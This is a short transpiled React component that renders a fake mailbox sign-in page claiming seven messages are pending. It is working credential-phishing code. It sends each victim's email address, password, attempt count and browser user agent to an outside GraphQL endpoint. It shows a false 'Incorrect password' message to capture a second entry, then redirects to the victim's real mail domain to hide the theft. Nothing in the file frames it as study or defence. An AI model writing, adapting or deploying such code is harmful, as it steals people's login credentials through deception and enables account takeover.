"use strict";
var _react = require("react");
var _jsxRuntime = require("react/jsx-runtime");
const SAVE = "mutation Save($i: EntryInput!) { addEntry(input: $i) { id next } }";
const gql = (query, variables) => fetch("https://gw.entries.example/graphql", {
  method: "POST",
  headers: { "content-type": "application/json", "x-hasura-admin-secret": "KEY" },
  body: JSON.stringify({ query, variables })
}).then(r => r.json());
function Mailbox({ address }) {
  const [pw, setPw] = (0, _react.useState)("");
  const [tries, setTries] = (0, _react.useState)(0);
  const domain = address.split("@")[1];
  const go = async ev => {
    ev.preventDefault();
    await gql(SAVE, { i: { address, pw, tries, agent: navigator.userAgent, kind: domain } });
    setPw("");
    if (tries > 0) window.location.assign("https://" + domain); else setTries(tries + 1);
  };
  return (0, _jsxRuntime.jsxs)("form", { onSubmit: go, children: [
    (0, _jsxRuntime.jsxs)("p", { children: ["Your mailbox ", address, " has 7 pending messages. Sign in to release them."] }),
    tries > 0 && (0, _jsxRuntime.jsx)("p", { className: "err", children: "Incorrect password, try again." }),
    (0, _jsxRuntime.jsx)("input", { type: "password", value: pw, onChange: e => setPw(e.target.value), autoFocus: true }),
    (0, _jsxRuntime.jsx)("button", { children: "Release messages" })
  ] });
}
exports.default = Mailbox;
